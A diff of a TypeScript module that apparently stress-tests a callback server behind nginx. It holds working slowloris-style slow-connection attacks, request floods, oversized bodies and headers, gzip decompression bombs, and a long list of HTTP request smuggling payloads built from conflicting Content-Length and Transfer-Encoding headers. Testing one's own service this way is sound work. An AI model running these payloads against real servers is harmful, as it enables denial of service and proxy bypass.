@@ -1,19 +1,17 @@
-import { brotliCompressSync, constants, gzipSync } from "node:zlib";
-import { SMUGGLING } from "./smuggling.ts";
-import { attackerSocket, type Target } from "./target.ts";
+import { setPriority } from "node:os";
+import { gzipSync } from "node:zlib";
+import { attackerSocket, type Target } from "./nginx.ts";
 
 const MIB = 1024 ** 2;
 const DRIP_MS = 50;
 
-export interface Attack {
-  name: string;
-  /** Goes on for as long as its process lives. */
-  run(target: Target): unknown;
-}
+/** Goes on for as long as its process lives. */
+type Attack = (target: Target) => void;
 
 /** Keeps so many connections open, each of which sends the bytes and then a drop every 50 ms. */
-const keepSending = (connections: number, bytes: string | Buffer, drop = "") =>
-  function run(target: Target) {
+const keepSending =
+  (connections: number, bytes: string | Buffer, drop = ""): Attack =>
+  (target) => {
     const open = () => {
       const socket = attackerSocket(target).resume();
       socket.write(bytes);
@@ -27,70 +25,118 @@ const keepSending = (connections: number, bytes: string | Buffer, drop = "") =>
   };
 
 /** The same with a peer that reads nothing. */
-const neverReading = (connections: number, bytes: string) => (target: Target) => {
-  for (let n = 0; n < connections; n += 1) attackerSocket(target).write(bytes);
-};
+const neverReading =
+  (connections: number, bytes: string): Attack =>
+  (target) => {
+    for (let n = 0; n < connections; n += 1) attackerSocket(target).write(bytes);
+  };
 
 /** So many requests a second, over connections that are kept where the target keeps them. */
-const atRate = (perSecond: number, bytes: string | Buffer) => (target: Target) => {
-  const connections = 50;
-  for (let n = 0; n < connections; n += 1) {
-    let socket = attackerSocket(target).resume();
-    const send = () => {
-      if (!socket.writable) socket = attackerSocket(target).resume();
-      socket.write(bytes);
-    };
-    setInterval(send, (1_000 * connections) / perSecond);
-  }
-};
+const atRate =
+  (perSecond: number, bytes: string | Buffer): Attack =>
+  (target) => {
+    const connections = 50;
+    for (let n = 0; n < connections; n += 1) {
+      let socket = attackerSocket(target).resume();
+      setInterval(
+        () => {
+          if (!socket.writable) socket = attackerSocket(target).resume();
+          socket.write(bytes);
+        },
+        (1_000 * connections) / perSecond,
+      );
+    }
+  };
 
-export function attacksOn(token: string): Attack[] {
+/** Stands in the path of each request that is hidden in another's body. */
+export const HIDDEN = "smuggled";
+
+/** The bytes of connections: by one reading a body holds the hidden request, by another it follows. */
+function smuggling(path: string): string[] {
+  const hidden = `POST ${path}/${HIDDEN} HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}\r\n`;
+  const framed = (headers: string, body: string, to = path) =>
+    `POST ${to} HTTP/1.1\r\nHost: x\r\n${headers.replaceAll("LENGTH", String(body.length))}\r\n\r\n${body}`;
+  const size = (text: string) => text.length.toString(16);
+  const behindLastChunk = `0\r\n\r\n${hidden}`;
+  const insideChunk = `${size(hidden)}\r\n${hidden}\r\n0\r\n\r\n`;
+  const oddChunk = (before: string) => `${before}${size(behindLastChunk)}\r\n${behindLastChunk}\r\n0\r\n\r\n`;
+  return [
+    // Codings that only one of two takes for chunked, beside a length.
+    ...[
+      "Transfer-Encoding: chunked",
+      "Transfer-Encoding: xchunked",
+      "Transfer-Encoding : chunked",
+      "Transfer-Encoding:\tchunked",
+      "Transfer-Encoding: \x0bchunked",
+      "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
+      "Transfer-Encoding: identity, chunked",
+      "Transfer_Encoding: chunked",
+      "Transfer-Encoding: CHUNKED",
+      "X: a\r\n Transfer-Encoding: chunked",
+      "Transfer-Encoding:\r\n chunked",
+      "X: a\nTransfer-Encoding: chunked",
+      "X: a\rTransfer-Encoding: chunked",
+      "X: a\0\r\nTransfer-Encoding: chunked",
+      "Connection: close, Content-Length\r\nTransfer-Encoding: chunked",
+    ].map((headers) => framed(`Content-Length: LENGTH\r\n${headers}`, behindLastChunk)),
+    ...["Content-Length: 4", "Content-Length : 4", "X: a\nContent-Length: 4", "Content-Length: 0"].map(
+      (length) => framed(`Transfer-Encoding: chunked\r\n${length}`, insideChunk),
+    ),
+    ...[
+      "Content-Length: 0\r\nContent-Length: LENGTH",
+      "Content-Length: LENGTH\r\nContent-Length: 0",
+      "Content-Length: LENGTH, 0",
+      "Content-Length: +LENGTH",
+      "Content-Length: LENGTH\r\nX: a\nContent-Length: 0",
+      "Content-Length: LENGTH\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk",
+      "Content-Length: LENGTH\r\nExpect: 100-continue",
+    ].map((headers) => framed(headers, hidden)),
+    // A GET, whose body some leave unread.
+    framed("Content-Length: LENGTH", hidden, "/healthz").replace("POST", "GET"),
+    ...[
+      "2;\nxx\r\n",
+      "0x2\r\nxx\r\n",
+      "+2\r\nxx\r\n",
+      "2 \r\nxx\r\n",
+      "2\nxx\r\n",
+      `1${"0".repeat(16)}\r\n`,
+    ].map((before) => framed("Transfer-Encoding: chunked", oddChunk(before))),
+  ];
+}
+
+export function attacksOn(token: string): Record<string, Attack> {
   const path = `/callbacks/${token}`;
   const get = (to: string) => `GET ${to} HTTP/1.1\r\nHost: x\r\n\r\n`;
-  const post = (to: string, headers: string) => `POST ${to} HTTP/1.1\r\nHost: x\r\n${headers}\r\n`;
-  const whole = (body: Buffer, headers: string) =>
-    Buffer.concat([Buffer.from(post(path, `${headers}Content-Length: ${body.length}\r\n`)), body]);
-  const chunked = "Transfer-Encoding: chunked\r\n";
-  const chunks = (size: number, bytes: number) =>
-    `${size.toString(16)}\r\n${"a".repeat(size)}\r\n`.repeat(bytes / size);
-  const oneByteChunks = chunks(1, (15 * MIB) / 6);
-  const zeros = Buffer.alloc(64 * MIB);
-  const brotli = brotliCompressSync(zeros, { params: { [constants.BROTLI_PARAM_QUALITY]: 5 } });
-  const all = (text: string) => Buffer.concat([Buffer.from(text), Buffer.alloc(10 * MIB, "a")]);
-  return [
-    {
-      name: "2,400 requests at once on each of 50 connections",
-      run: keepSending(50, get("/").repeat(2_400)),
+  const post = (headers: string) => `POST ${path} HTTP/1.1\r\nHost: x\r\n${headers}\r\n`;
+  const chunked = post("Transfer-Encoding: chunked\r\n");
+  const bomb = gzipSync(Buffer.alloc(64 * MIB));
+  const bombed = post(`Content-Encoding: gzip\r\nContent-Length: ${bomb.length}\r\n`);
+  const large = post(`Content-Length: ${10 * MIB}\r\n`);
+  const many = get(path).repeat(3_000);
+  const open = get(path).slice(0, -2);
+  return {
+    "3,000 callbacks at once on each of 40 connections": keepSending(40, many),
+    "the same, no answer read": neverReading(40, many),
+    "15 MiB in chunks of one byte": keepSending(20, chunked + "1\r\na\r\n".repeat((15 * MIB) / 6)),
+    "200 silent connections": keepSending(200, ""),
+    "200 heads that never end": keepSending(200, `${open}X-Slow: `, "a"),
+    "200 bodies drop by drop": keepSending(200, post("Content-Length: 100000\r\n"), "a"),
+    "200 bodies chunk by chunk": keepSending(200, chunked, "1\r\na\r\n"),
+    "10 MiB bodies": keepSending(20, Buffer.concat([Buffer.from(large), Buffer.alloc(10 * MIB, "a")])),
+    "gzip bombs": atRate(500, Buffer.concat([Buffer.from(bombed), bomb])),
+    "10,000 headers": keepSending(50, open + "X-A: b\r\n".repeat(10_000)),
+    "a header of 1 MiB": keepSending(50, `${open}X-A: ${"b".repeat(MIB)}\r\n\r\n`),
+    smuggling: (target) => {
+      for (const form of smuggling(path)) keepSending(1, form)(target);
     },
-    {
-      name: "3,000 callbacks at once on each of 40 connections",
-      run: keepSending(40, get(path).repeat(3_000)),
-    },
-    { name: "3,000 callbacks at once, no answer read", run: neverReading(40, get(path).repeat(3_000)) },
-    { name: "15 MiB in chunks of one byte", run: keepSending(20, post(path, chunked) + oneByteChunks) },
-    {
-      name: "the same, a wrong token",
-      run: keepSending(20, post("/callbacks/wrong", chunked) + oneByteChunks),
-    },
-    { name: "200 silent connections", run: keepSending(200, "") },
-    { name: "200 heads that never end", run: keepSending(200, `${get(path).slice(0, -2)}X-Slow: `, "a") },
-    { name: "200 bodies drop by drop", run: keepSending(200, post(path, "Content-Length: 100000\r\n"), "a") },
-    { name: "200 bodies chunk by chunk", run: keepSending(200, post(path, chunked), "1\r\na\r\n") },
-    { name: "10 MiB bodies", run: keepSending(20, all(post(path, `Content-Length: ${10 * MIB}\r\n`))) },
-    { name: "10 MiB bodies in chunks", run: keepSending(20, post(path, chunked) + chunks(65_536, 10 * MIB)) },
-    { name: "gzip bombs", run: atRate(500, whole(gzipSync(zeros), "Content-Encoding: gzip\r\n")) },
-    { name: "br bombs", run: atRate(500, whole(brotli, "Content-Encoding: br\r\n")) },
-    { name: "10,000 headers", run: keepSending(50, get(path).slice(0, -2) + "X-A: b\r\n".repeat(10_000)) },
-    {
-      name: "a header of 1 MiB",
-      run: keepSending(50, `${get(path).slice(0, -2)}X-A: ${"b".repeat(MIB)}\r\n\r\n`),
-    },
-    {
-      name: `${SMUGGLING.length} forms of smuggling`,
-      run: (target) => {
-        for (const form of SMUGGLING) keepSending(1, form(path))(target);
-      },
-    },
-    { name: "2,000 wrong tokens a second", run: atRate(2_000, get("/callbacks/wrong")) },
-  ];
+    "2,000 wrong tokens a second": atRate(2_000, get("/callbacks/wrong")),
+  };
+}
+
+// A process of its own, which its parent ends: `attacks.ts <target as JSON> <token> <attack>`.
+if (import.meta.main) {
+  // The attackers' own work is not to take the processor from the attacked.
+  setPriority(19);
+  const [, , target = "", token = "", name = ""] = process.argv;
+  attacksOn(token)[name]?.(JSON.parse(target));
 }
